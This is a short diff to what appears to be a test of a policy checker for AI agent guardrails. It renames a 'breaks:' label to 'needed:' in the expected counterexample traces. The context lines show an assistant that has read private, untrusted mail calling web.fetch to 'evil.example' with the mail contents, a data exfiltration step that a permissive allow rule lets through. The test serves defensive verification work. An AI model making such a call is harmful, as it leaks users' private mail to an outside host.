@@ -120,7 +120,7 @@ web.fetch is released after mail.read, and reviewer did not approve it.
    - + assistant carries private
    - + assistant carries untrusted
    - + once mail.read
-   - *breaks: without this step, the claim would not be broken*
+   - *needed: without this step, the claim would not be broken*
 2. assistant calls \`web.fetch(url: "https://evil.example/?q=the+mail")\` → **allowed**
    - by \`allow assistant: mail.read, mail.draft, web.fetch, web.post\` (mail.guardrail:9)
    - *the claim judges this step*
@@ -176,7 +176,7 @@ assistant can call web.fetch after ci.passed.
 
 1. \`ci.passed\` happens at 1m
    - + once ci.passed
-   - *breaks: without this step, the claim would not be broken; lets through: `);
+   - *needed: without this step, the claim would not be broken; lets through: `);
     });
 });
 
